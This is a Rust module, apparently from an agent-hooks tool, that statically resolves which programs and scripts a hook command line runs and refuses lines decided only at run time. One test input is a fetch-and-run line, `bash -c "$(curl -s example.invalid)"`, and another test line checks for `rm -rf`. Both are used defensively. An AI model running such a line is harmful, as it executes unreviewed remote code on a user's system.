//! A hook's command line, read once: the program `execve` starts, resolved with the environment the
//! hook gets, and every file the line names. Approval pins what this reading finds, dispatch
//! re-reads and compares it with the pin, and `list`/`doctor` inspect the same reading, so the four
//! never disagree about what a command runs (`docs/trust.md`).
//!
//! A line run through `sh -c` is read with the guards' shell tokenizer, following what a shell
//! would do without running anything: `cd`, `export X=…` and `VAR=val cmd` are tracked, `bash -c
//! '…'` is read recursively, and the variables the runtime itself sets (`$CLAUDE_PROJECT_DIR`,
//! the entry's `env`) are expanded. A command substitution is read as the commands it runs, and
//! its output is data: `CMD=$(jq …); echo "$CMD" | grep …` pins `jq` and `grep`. Anything that
//! decides which file runs at run time — a variable nobody known sets, a substitution's output
//! (directly or through a variable it set) in the place of a program, a script, a sourced
//! file, a directory or inline code, `eval` — makes the line unreadable, and an unreadable line
//! is refused at approval rather than approved with nothing pinned.

use std::collections::{HashMap, HashSet};
use std::ffi::OsString;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use crate::command::{CommandSpec, Invocation};

/// What a word of the command is to the process that runs it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// A program some command of the line starts (`execve`'s, or one a shell line runs).
    Program,
    /// A file a program reads and runs (`python3 hooks/x.py`, `. lib.sh`).
    Script,
}

/// One file a command names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Named {
    /// The word as written (before expansion).
    pub word: String,
    /// Where it resolves; `None` for a program name found nowhere on `PATH`.
    pub path: Option<PathBuf>,
    /// Program or script.
    pub role: Role,
}

impl Named {
    /// The resolved path when the file is there.
    pub fn existing(&self) -> Option<&Path> {
        self.path.as_deref().filter(|p| p.is_file())
    }
}

/// Everything the line runs, as far as it can be known without running it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reading {
    /// The program `execve` starts (`sh` for a shell line); `None` when it is found nowhere.
    pub program: Option<PathBuf>,
    /// The program's word as written (`python3`, `./x.sh`, `sh`).
    pub program_word: String,
    /// Every file the line names, the program first, without repeats.
    pub files: Vec<Named>,
}

impl Reading {
    /// The first named file that should exist and does not: (word, why).
    pub fn missing(&self) -> Option<(&str, String)> {
        self.files.iter().find_map(|named| match &named.path {
            None => Some((
                named.word.as_str(),
                format!("{} is not on PATH", named.word),
            )),
            Some(path) if !path.is_file() => Some((
                named.word.as_str(),
                format!("{} does not exist ({})", named.word, path.display()),
            )),
            Some(_) => None,
        })
    }

    /// The resolved paths of the files that exist.
    pub fn paths(&self) -> impl Iterator<Item = &Path> {
        self.files.iter().filter_map(Named::existing)
    }
}

/// Why a line's files cannot be determined without running it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("which files \"{line}\" runs cannot be determined: {why}")]
pub struct Unreadable {
    /// The command line.
    pub line: String,
    /// What stops the reading, with the fix where there is one.
    pub why: String,
}

/// Reads `spec` as it will run with `env` (the entry's `env:`, on top of the runtime's own).
pub fn read(spec: &CommandSpec, env: &[(String, String)]) -> Result<Reading, Unreadable> {
    let mut reader = Reader::of(spec, env);
    let (program_word, program) = match &spec.invocation {
        Invocation::Argv(argv) => {
            // The words as written (a relative program is shown as the user wrote it; it
            // resolves against the working directory exactly as the argv does).
            let written = shell_words::split(&spec.line).ok();
            let words = written
                .as_ref()
                .filter(|w| w.len() == argv.len())
                .unwrap_or(argv);
            reader.words(words, false)?;
            let word = words.first().cloned().unwrap_or_default();
            let program = reader.files.first().and_then(|n| n.path.clone());
            (word, program)
        }
        Invocation::Shell(line) | Invocation::Bash(line) => {
            let shell = spec
                .invocation
                .shell_line()
                .map_or("sh", |(shell, _)| shell);
            let program = reader.program(shell);
            reader.push(shell, program.clone(), Role::Program);
            reader.shell(line)?;
            (shell.to_owned(), program)
        }
    };
    Ok(Reading {
        program,
        program_word,
        files: reader.files,
    })
}

struct Reader<'a> {
    line: &'a str,
    cwd: PathBuf,
    vars: HashMap<String, String>,
    /// Variables the line sets to what only running it tells (a substitution's output, or a
    /// variable nobody known sets): usable as data, never as what runs.
    run_time: HashSet<String>,
    files: Vec<Named>,
    depth: usize,
}

/// What `Reader::expand` could not expand: the variable's name, or one of these.
const SUBSTITUTION: &str = "$(";

/// Shell words that start a command without being one (`then ./x.sh`).
const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "while", "until", "do", "!", "{", "time", "exec", "nohup",
    "command",
];
/// Shell words whose command runs no file.
const RUNS_NOTHING: &[&str] = &[
    "fi", "done", "esac", "}", "for", "case", "in", "echo", "printf", "true", "false", ":", "exit",
    "return", "set", "unset", "shift", "read", "test", "[", "wait", "trap", "local", "readonly",
    "export",
];
/// Programs that take a script (or `-c`/`-e` code) as their first argument.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "node", "ruby", "perl", "php", "lua", "tsx", "ts-node",
];
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh"];

fn is_interpreter(name: &str) -> bool {
    INTERPRETERS.contains(&name)
        || name
            .strip_prefix("python")
            .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
}

impl<'a> Reader<'a> {
    /// A reader of `spec`'s line as it runs with `env`: the runtime's `PATH` and `HOME`, the
    /// variables the runtime sets for the process, then the entry's own.
    fn of(spec: &'a CommandSpec, env: &[(String, String)]) -> Reader<'a> {
        let mut vars: HashMap<String, String> = HashMap::new();
        for key in ["PATH", "HOME"] {
            if let Some(value) = std::env::var_os(key) {
                vars.insert(key.to_owned(), value.to_string_lossy().into_owned());
            }
        }
        for (k, v) in spec.known_vars.iter().chain(env) {
            vars.insert(k.clone(), v.clone());
        }
        Reader {
            line: &spec.line,
            cwd: spec.cwd.clone(),
            vars,
            run_time: HashSet::new(),
            files: Vec::new(),
            depth: 0,
        }
    }
}

impl Reader<'_> {
    fn unreadable(&self, why: impl Into<String>) -> Unreadable {
        Unreadable {
            line: self.line.to_owned(),
            why: why.into(),
        }
    }

    fn push(&mut self, word: &str, path: Option<PathBuf>, role: Role) {
        if self
            .files
            .iter()
            .any(|n| n.path == path && (path.is_some() || n.word == word))
        {
            return;
        }
        self.files.push(Named {
            word: word.to_owned(),
            path,
            role,
        });
    }

    /// A program name looked up the way `execvp` will: on the hook's `PATH`.
    fn program(&self, name: &str) -> Option<PathBuf> {
        let path = OsString::from(self.vars.get("PATH")?);
        std::env::split_paths(&path)
            .map(|dir| self.resolve(&dir.to_string_lossy()).join(name))
            .find(|p| {
                p.metadata()
                    .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
            })
    }

    fn resolve(&self, word: &str) -> PathBuf {
        let p = Path::new(word);
        if p.is_absolute() {
            p.to_path_buf()
        } else {
            self.cwd.join(p)
        }
    }

    /// Sets (`Some`) or marks as known only at run time (`None`) a shell variable.
    fn set(&mut self, name: &str, value: Option<String>) {
        match value {
            Some(value) => {
                self.run_time.remove(name);
                self.vars.insert(name.to_owned(), value);
            }
            None => {
                self.vars.remove(name);
                self.run_time.insert(name.to_owned());
            }
        }
    }

    /// `word` with `~` and the known `$NAME`/`${NAME}` expanded; `Err(name)` for a variable
    /// no known source sets, `Err("$(")` for a command substitution's output.
    fn expand(&self, word: &str) -> Result<String, String> {
        if word.contains('`') {
            return Err(SUBSTITUTION.to_owned());
        }
        let mut out = String::with_capacity(word.len());
        let mut rest = word;
        if rest == "~" || rest.starts_with("~/") {
            let home = self.vars.get("HOME").ok_or_else(|| "HOME".to_owned())?;
            out.push_str(home);
            rest = &rest[1..];
        }
        while let Some(at) = rest.find('$') {
            out.push_str(&rest[..at]);
            let after = &rest[at + 1..];
            if let Some(inner) = after.strip_prefix('(') {
                let end = inner.find(')').ok_or_else(|| SUBSTITUTION.to_owned())?;
                let value = self
                    .known_output(&inner[..end])
                    .ok_or_else(|| SUBSTITUTION.to_owned())?;
                out.push_str(&value);
                rest = &inner[end + 1..];
                continue;
            }
            let (name, len) = if let Some(braced) = after.strip_prefix('{') {
                let end = braced.find('}').ok_or_else(|| after.to_owned())?;
                (&braced[..end], end + 2)
            } else {
                let end = after
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(after.len());
                (&after[..end], end)
            };
            if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
                return Err(format!("${}", after.chars().next().unwrap_or(' ')));
            }
            let value = self.vars.get(name).ok_or_else(|| name.to_owned())?;
            out.push_str(value);
            rest = &after[len..];
        }
        out.push_str(rest);
        Ok(out)
    }

    /// The output of the few substitutions the reading knows without running anything, because
    /// it depends only on where the line runs: `pwd`, and `git rev-parse --show-toplevel` (the
    /// form Codex's hooks reference writes a repository's hook paths in) when no `GIT_DIR` or
    /// `GIT_WORK_TREE` points git elsewhere. Anything else is `None`: known only by running it.
    fn known_output(&self, body: &str) -> Option<String> {
        let words: Vec<&str> = body.split_ascii_whitespace().collect();
        match words.as_slice() {
            ["pwd"] => Some(self.cwd.to_string_lossy().into_owned()),
            ["git", "rev-parse", "--show-toplevel"] => {
                let redirected = ["GIT_DIR", "GIT_WORK_TREE"]
                    .iter()
                    .any(|key| self.vars.contains_key(*key) || std::env::var_os(key).is_some());
                if redirected {
                    return None;
                }
                // git prints the top level's real path, symlinks resolved.
                let cwd = self.cwd.canonicalize().ok()?;
                let top = cwd.ancestors().find(|dir| dir.join(".git").exists())?;
                Some(top.to_string_lossy().into_owned())
            }
            _ => None,
        }
    }

    fn expand_or_refuse(&self, word: &str, what: &str) -> Result<String, Unreadable> {
        self.expand(word)
            .map_err(|var| self.unreadable(self.unexpandable(word, what, &var)))
    }

    /// Why `word`, in the role `what`, cannot be known before the line runs.
    fn unexpandable(&self, word: &str, what: &str, var: &str) -> String {
        if var == SUBSTITUTION {
            format!(
                "{what} {word} is the output of a command substitution ($(...) or backticks), known only when the line runs; substitutions may feed data, not decide what runs"
            )
        } else if self.run_time.contains(var) {
            format!(
                "{what} {word} uses ${var}, which the line itself sets to what only running it tells (a command substitution's output); substitutions may feed data, not decide what runs"
            )
        } else {
            format!(
                "{what} {word} uses ${var}, which neither the hook's configuration nor the runtime sets; write the path out, or set {var} in the entry's env"
            )
        }
    }

    /// A shell text: each simple command in order.
    fn shell(&mut self, text: &str) -> Result<(), Unreadable> {
        self.depth += 1;
        if self.depth > 4 {
            return Err(self.unreadable("shells nested more than four deep"));
        }
        // Inside bash's `[[ … ]]` test, `&&`, `||` and `|` are operators of the expression, but
        // the tokenizer splits commands on them: every piece up to the `]]` runs no file.
        let mut in_test = false;
        for command in agent_hooks_guards::shell_commands(text) {
            // What a substitution runs is read like any command; what it prints is data, which
            // `expand` keeps out of every place that decides what runs.
            for body in &command.substitutions {
                self.shell(body)?;
            }
            let opens_test = command
                .words
                .iter()
                .find(|w| !KEYWORDS.contains(&w.as_str()))
                .is_some_and(|w| w == "[[");
            if in_test || opens_test {
                in_test = !command.words.iter().any(|w| w == "]]");
                continue;
            }
            self.words(&command.words, true)?;
        }
        self.depth -= 1;
        Ok(())
    }

    /// One simple command. `shell`: the words come from a shell line (assignments, builtins and
    /// expansion apply); otherwise they are an argv as `execve` gets it.
    fn words(&mut self, words: &[String], shell: bool) -> Result<(), Unreadable> {
        let mut words = words;
        let mut inline: Vec<(String, Option<String>)> = Vec::new();
        if shell {
            // Leading keywords and assignments.
            while let Some(first) = words.first() {
                if KEYWORDS.contains(&first.as_str()) {
                    words = &words[1..];
                } else if let Some((name, value)) = assignment(first) {
                    inline.push((name.to_owned(), self.expand(value).ok()));
                    words = &words[1..];
                } else {
                    break;
                }
            }
            if words.is_empty() {
                // `X=…` alone sets a shell variable for the rest of the line.
                for (name, value) in inline {
                    self.set(&name, value);
                }
                return Ok(());
            }
        }
        let Some((program, args)) = words.split_first() else {
            return Ok(());
        };
        if shell {
            match program.as_str() {
                "cd" => return self.cd(args),
                "export" | "readonly" | "local" => {
                    for arg in args {
                        if let Some((name, value)) = assignment(arg) {
                            let value = self.expand(value).ok();
                            self.set(name, value);
                        }
                    }
                    return Ok(());
                }
                "eval" => {
                    return Err(self
                        .unreadable("it uses eval, which builds the command to run at run time"));
                }
                "." | "source" => {
                    if let Some(script) = args.first() {
                        let expanded = self.expand_or_refuse(script, "the sourced file")?;
                        let path = self.resolve(&expanded);
                        self.push(script, Some(path), Role::Script);
                    }
                    return Ok(());
                }
                "env" => {
                    // `env [-i] [NAME=value]... program args`
                    let rest: Vec<String> = args
                        .iter()
                        .skip_while(|w| w.starts_with('-') || assignment(w).is_some())
                        .cloned()
                        .collect();
                    for (name, value) in args.iter().filter_map(|w| assignment(w)) {
                        inline.push((name.to_owned(), self.expand(value).ok()));
                    }
                    let saved = (self.vars.clone(), self.run_time.clone());
                    for (name, value) in inline {
                        self.set(&name, value);
                    }
                    let result = self.words(&rest, true);
                    (self.vars, self.run_time) = saved;
                    return result;
                }
                name if RUNS_NOTHING.contains(&name) => return Ok(()),
                _ => {}
            }
        }
        // Inline assignments hold for this command only (`PATH=/x cmd` resolves cmd there).
        let saved = (!inline.is_empty()).then(|| (self.vars.clone(), self.run_time.clone()));
        for (name, value) in inline {
            self.set(&name, value);
        }
        let result = self.command(program, args, shell);
        if let Some(saved) = saved {
            (self.vars, self.run_time) = saved;
        }
        result
    }

    fn cd(&mut self, args: &[String]) -> Result<(), Unreadable> {
        let target = match args.iter().find(|a| !a.starts_with('-')) {
            Some(dir) => self.expand_or_refuse(dir, "the directory")?,
            None => self
                .vars
                .get("HOME")
                .cloned()
                .ok_or_else(|| self.unreadable("cd without HOME set"))?,
        };
        self.cwd = self.resolve(&target);
        Ok(())
    }

    /// A program and its arguments: the program and every file among the arguments.
    fn command(&mut self, program: &str, args: &[String], shell: bool) -> Result<(), Unreadable> {
        let expanded = if shell {
            self.expand_or_refuse(program, "the program")?
        } else {
            program.to_owned()
        };
        let path = if expanded.contains('/') {
            Some(self.resolve(&expanded))
        } else {
            self.program(&expanded)
        };
        self.push(program, path, Role::Program);
        let name = crate::command_line::basename(&expanded).to_owned();
        let interpreter = is_interpreter(&name);
        let mut script_expected = interpreter;
        let mut i = 0;
        while i < args.len() {
            let arg = &args[i];
            i += 1;
            if interpreter && arg.starts_with('-') {
                match arg.as_str() {
                    // Inline code: a shell's is read in turn; others run no file.
                    "-c" | "-e" | "--eval" | "-p" | "--print" | "-m" => {
                        let Some(code) = args.get(i) else {
                            return Ok(());
                        };
                        if SHELLS.contains(&name.as_str()) && arg == "-c" {
                            let code = code.clone();
                            self.shell(&code)?;
                        } else if shell
                            && let Err(var) = self.expand(code)
                            && (var == SUBSTITUTION || self.run_time.contains(&var))
                        {
                            // `python3 -c "$(cat x)"` runs whatever x holds when it runs.
                            return Err(self.unreadable(self.unexpandable(
                                code,
                                "the inline code",
                                &var,
                            )));
                        }
                        return Ok(());
                    }
                    _ => continue,
                }
            }
            let value = if shell {
                self.expand(arg)
            } else {
                Ok(arg.clone())
            };
            let is_script = std::mem::take(&mut script_expected);
            let value = match value {
                Ok(value) => value,
                Err(var) if is_script || looks_like_script(arg) => {
                    return Err(self.unreadable(self.unexpandable(arg, "the script", &var)));
                }
                Err(_) => continue,
            };
            // Data arguments (an output file, a directory) are not code: only the script an
            // interpreter runs and arguments named like scripts are pinned.
            if is_script || looks_like_script(&value) {
                let path = self.resolve(&value);
                self.push(arg, Some(path), Role::Script);
            }
        }
        Ok(())
    }
}

/// A command that is a Python interpreter running a script: what `prefork` needs to run the
/// script in a forked child of an interpreter that has it loaded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PythonCall {
    /// The interpreter's word as written (`python3`): the child's `sys.orig_argv[0]`.
    pub interpreter_word: String,
    /// The interpreter, resolved with the hook's environment as `execve` will find it; `None`
    /// when it is found nowhere.
    pub interpreter: Option<PathBuf>,
    /// The interpreter's options before the script (`-u`, `-X utf8`, ...).
    pub options: Vec<String>,
    /// The script's word as written: the child's `sys.argv[0]`.
    pub script_word: String,
    /// The script, absolute.
    pub script: PathBuf,
    /// The script's arguments.
    pub args: Vec<String>,
}

/// Interpreter options that take no value and change nothing a forker cannot reproduce.
const PYTHON_FLAGS: &str = "bBEIOPqsSuR";

/// The words of the one command `spec` runs, with the variables the runtime knows expanded: its
/// argv, or a shell line that is a single plain command (no operator, redirection,
/// substitution or leading assignment), which runs the same without the shell. Anything else
/// says why not.
pub fn simple_command(spec: &CommandSpec, env: &[(String, String)]) -> Result<Vec<String>, String> {
    let reader = Reader::of(spec, env);
    match &spec.invocation {
        Invocation::Argv(argv) => Ok(argv.clone()),
        Invocation::Shell(line) | Invocation::Bash(line) => {
            let commands = agent_hooks_guards::shell_commands(line);
            let [command] = commands.as_slice() else {
                return Err("it is a shell line of several commands; prefork runs one `python3 script.py` command".into());
            };
            let written = shell_words::split(line).map_err(|e| e.to_string())?;
            let operators = written.iter().any(|w| {
                w.trim_start_matches(|c: char| c.is_ascii_digit())
                    .starts_with(['<', '>', '|', '&', ';', '(', ')'])
            });
            // A substitution whose output the reading knows (`$(git rev-parse
            // --show-toplevel)`) is expanded below like a variable; any other is refused there.
            if operators || written != command.words {
                return Err("its shell line redirects, pipes or substitutes; prefork runs a plain `python3 script.py` command".into());
            }
            if command
                .words
                .first()
                .is_some_and(|w| assignment(w).is_some())
            {
                return Err("its shell line sets variables before the command; set them in the hook's env instead".into());
            }
            command
                .words
                .iter()
                .map(|w| {
                    reader.expand(w).map_err(|var| match var.as_str() {
                        SUBSTITUTION => format!(
                            "{w} is a command substitution's output, known only when it runs"
                        ),
                        _ => format!("{w} uses ${var}, which nothing sets"),
                    })
                })
                .collect()
        }
    }
}

/// Reads `spec` as a Python interpreter running a script (`python3 [options] script.py
/// [args]`), the one form `prefork` accepts; anything else says why not. A shell line must be
/// that one simple command (no pipes, redirections, `&&` or assignments); its `$VAR`s are
/// expanded as [`read`] expands them.
pub fn python_call(spec: &CommandSpec, env: &[(String, String)]) -> Result<PythonCall, String> {
    let reading = read(spec, env).map_err(|e| e.to_string())?;
    let reader = Reader::of(spec, env);
    let words = simple_command(spec, env)?;
    let Some((program, rest)) = words.split_first() else {
        return Err("the command is empty".into());
    };
    let name = basename(program);
    let is_python = name
        .strip_prefix("python")
        .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'));
    if !is_python {
        return Err(format!(
            "its program is {program}, not a Python interpreter; prefork runs `python3 script.py` commands"
        ));
    }
    let interpreter = reading
        .program
        .clone()
        .filter(|_| matches!(spec.invocation, Invocation::Argv(_)))
        .or_else(|| {
            reading
                .files
                .iter()
                .find(|n| n.role == Role::Program && basename(&n.word) == name)
                .and_then(|n| n.path.clone())
        });
    let mut options = Vec::new();
    let mut i = 0;
    while let Some(word) = rest.get(i).filter(|w| w.starts_with('-')) {
        i += 1;
        let letters = &word[1..];
        let takes_value = matches!(letters, "W" | "X");
        if takes_value {
            let value = rest.get(i).ok_or_else(|| format!("{word} needs a value"))?;
            options.push(word.clone());
            options.push(value.clone());
            i += 1;
        } else if letters.starts_with(['W', 'X']) && letters.len() > 1
            || !letters.is_empty() && letters.chars().all(|c| PYTHON_FLAGS.contains(c))
        {
            options.push(word.clone());
        } else {
            return Err(format!(
                "the interpreter option {word} is not one prefork reproduces (it runs `python3 [-u -O -B -E -s -S -I -X opt -W opt ...] script.py`)"
            ));
        }
    }
    let Some(script_word) = rest.get(i) else {
        return Err("it names no script for the interpreter to run".into());
    };
    Ok(PythonCall {
        interpreter_word: program.clone(),
        interpreter,
        options,
        script_word: script_word.clone(),
        script: reader.resolve(script_word),
        args: rest[i + 1..].to_vec(),
    })
}

/// `NAME=value` as a shell assignment.
fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    let valid = !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    valid.then_some((name, value))
}

/// An argument named like code: a script's extension.
fn looks_like_script(arg: &str) -> bool {
    const SCRIPT_EXTENSIONS: &[&str] = &[
        ".py", ".sh", ".bash", ".js", ".mjs", ".cjs", ".ts", ".rb", ".pl", ".php", ".lua",
    ];
    !arg.starts_with('-')
        && assignment(arg).is_none()
        && SCRIPT_EXTENSIONS.iter().any(|ext| arg.ends_with(ext))
}

/// The last path component of a word.
pub fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;
    use agent_hooks_core::workspace::Workspace;

    fn ws_with(files: &[&str]) -> (tempfile::TempDir, Workspace) {
        let dir = tempfile::tempdir().expect("tempdir");
        for f in files {
            let p = dir.path().join(f);
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(&p, "#!/bin/sh\n").expect("write");
        }
        let ws = Workspace::new(dir.path());
        (dir, ws)
    }

    fn shell(ws: &Workspace, line: &str) -> Result<Reading, Unreadable> {
        let root = ws.root().to_string_lossy().into_owned();
        let spec = CommandSpec::shell(line, ws.root().to_path_buf())
            .with_known_var("CLAUDE_PROJECT_DIR", &root);
        read(&spec, &[])
    }

    fn scripts(reading: &Reading) -> Vec<PathBuf> {
        reading
            .files
            .iter()
            .filter(|n| n.role == Role::Script)
            .filter_map(|n| n.path.clone())
            .collect()
    }

    #[test]
    fn a_script_under_bash_c_and_the_project_dir_is_found() {
        let (_d, ws) = ws_with(&["g.py"]);
        let r = shell(
            &ws,
            "bash -c 'cd /tmp && python3 \"$CLAUDE_PROJECT_DIR/g.py\"'",
        )
        .expect("readable");
        assert_eq!(scripts(&r), vec![ws.root().join("g.py")]);
    }

    #[test]
    fn inline_assignments_cd_and_exported_variables_are_followed() {
        let (_d, ws) = ws_with(&["x.js", "hooks/x.sh", "lib/y.py"]);
        let r = shell(&ws, "VAR=val node x.js").expect("readable");
        assert_eq!(scripts(&r), vec![ws.root().join("x.js")]);
        let r = shell(&ws, "cd hooks && ./x.sh").expect("readable");
        assert!(r.paths().any(|p| p == ws.root().join("hooks/x.sh")));
        let line = format!("export X={}/lib; python3 \"$X/y.py\"", ws.root().display());
        let r = shell(&ws, &line).expect("readable");
        assert_eq!(scripts(&r), vec![ws.root().join("lib/y.py")]);
    }

    #[test]
    fn an_unknown_variable_or_substitution_is_unreadable() {
        let (_d, ws) = ws_with(&[]);
        let err = shell(&ws, "python3 \"$NOWHERE_SET/y.py\"").expect_err("unreadable");
        assert!(err.why.contains("$NOWHERE_SET"), "{err}");
        assert!(shell(&ws, "python3 $(cat which)").is_err());
        assert!(shell(&ws, "eval \"$CMD\"").is_err());
    }

    #[test]
    fn a_substitution_feeding_data_is_read_and_its_programs_pinned() {
        let (_d, ws) = ws_with(&["hooks/check.sh"]);
        let line = "CMD=$(jq -r '.tool_input.command'); if echo \"$CMD\" | grep -qE 'rm -rf'; then echo \"blocked: $(date +%F)\" >&2; exit 2; fi; sh hooks/check.sh \"$CMD\" `whoami`";
        let r = shell(&ws, line).expect("readable");
        let programs: Vec<&str> = r
            .files
            .iter()
            .filter(|n| n.role == Role::Program)
            .map(|n| n.word.as_str())
            .collect();
        for program in ["jq", "grep", "date", "whoami"] {
            assert!(programs.contains(&program), "{program}: {programs:?}");
        }
        assert_eq!(scripts(&r), vec![ws.root().join("hooks/check.sh")]);
    }

    #[test]
    fn the_repository_top_level_and_the_directory_are_known_substitutions() {
        let (_d, ws) = ws_with(&[".codex/hooks/policy.py", ".git/HEAD"]);
        let r = shell(
            &ws,
            "python3 \"$(git rev-parse --show-toplevel)/.codex/hooks/policy.py\"",
        )
        .expect("readable");
        let root = ws.root().canonicalize().expect("canonical");
        assert_eq!(scripts(&r), vec![root.join(".codex/hooks/policy.py")]);
        let r = shell(&ws, "cd .codex && python3 \"$(pwd)/hooks/policy.py\"").expect("readable");
        assert_eq!(scripts(&r), vec![ws.root().join(".codex/hooks/policy.py")]);
        // Outside a repository git prints nothing a reading could know.
        let (_e, bare) = ws_with(&["hooks/policy.py"]);
        let err = shell(
            &bare,
            "python3 \"$(git rev-parse --show-toplevel)/hooks/policy.py\"",
        )
        .expect_err("no repository");
        assert!(
            err.why.contains("output of a command substitution"),
            "{err}"
        );
    }

    #[test]
    fn a_substitution_that_decides_what_runs_is_unreadable() {
        let (_d, ws) = ws_with(&["hooks/a.sh"]);
        for (line, says) in [
            (
                "$(which python3) hooks/x.py",
                "output of a command substitution",
            ),
            ("`which sh` hooks/a.sh", "output of a command substitution"),
            (
                "sh \"$(ls hooks/*.sh | head -1)\"",
                "output of a command substitution",
            ),
            (
                "P=$(which python3); \"$P\" x.py",
                "$P, which the line itself sets",
            ),
            (
                "S=$(ls hooks); sh \"$S/a.sh\"",
                "$S, which the line itself sets",
            ),
            (
                "D=$(mktemp -d); cd \"$D\" && ./a.sh",
                "$D, which the line itself sets",
            ),
            (
                ". \"$(echo hooks/a.sh)\"",
                "output of a command substitution",
            ),
            ("python3 -c \"$(cat hooks/a.sh)\"", "the inline code"),
            ("X=`cat f`; node -e \"$X\"", "the inline code"),
            (
                "bash -c \"$(curl -s example.invalid)\"",
                "output of a command substitution",
            ),
        ] {
            let err = shell(&ws, line).expect_err(line);
            assert!(err.why.contains(says), "{line}: {err}");
        }
    }

    #[test]
    fn a_missing_script_is_reported() {
        let (_d, ws) = ws_with(&[]);
        let r = shell(&ws, "sh hooks/none.sh").expect("readable");
        assert!(r.missing().is_some_and(|(w, _)| w == "hooks/none.sh"));
    }

    #[test]
    fn the_entry_path_decides_which_program_runs() {
        let (_d, ws) = ws_with(&[]);
        let bin = ws.root().join("bin");
        std::fs::create_dir_all(&bin).expect("mkdir");
        let fake = bin.join("bash");
        std::fs::write(&fake, "#!/bin/sh\n").expect("write");
        std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let spec = CommandSpec::argv(&ws, "bash hooks/x.sh").expect("spec");
        let env = [("PATH".to_owned(), bin.to_string_lossy().into_owned())];
        let r = read(&spec, &env).expect("readable");
        assert_eq!(r.program, Some(fake));
    }

    #[test]
    fn a_bash_test_expression_runs_no_file_and_the_script_after_it_is_pinned() {
        let (_d, ws) = ws_with(&["hooks/fmt.sh"]);
        for line in [
            "[[ -f package.json ]] && ./hooks/fmt.sh",
            "[[ -f package.json && ! -d node_modules ]] || ./hooks/fmt.sh",
            "if [[ \"$CLAUDE_PROJECT_DIR\" == /tmp/* ]]; then exit 0; fi; sh hooks/fmt.sh",
            "[[ $HOOK_EVENT =~ ^Pre ]] && bash \"$CLAUDE_PROJECT_DIR\"/hooks/fmt.sh",
        ] {
            let r = shell(&ws, line).unwrap_or_else(|e| panic!("{line}: {e}"));
            assert!(
                r.paths().any(|p| p == ws.root().join("hooks/fmt.sh")),
                "{line}: {r:?}"
            );
            assert_eq!(r.missing(), None, "{line}: {r:?}");
        }
    }
}
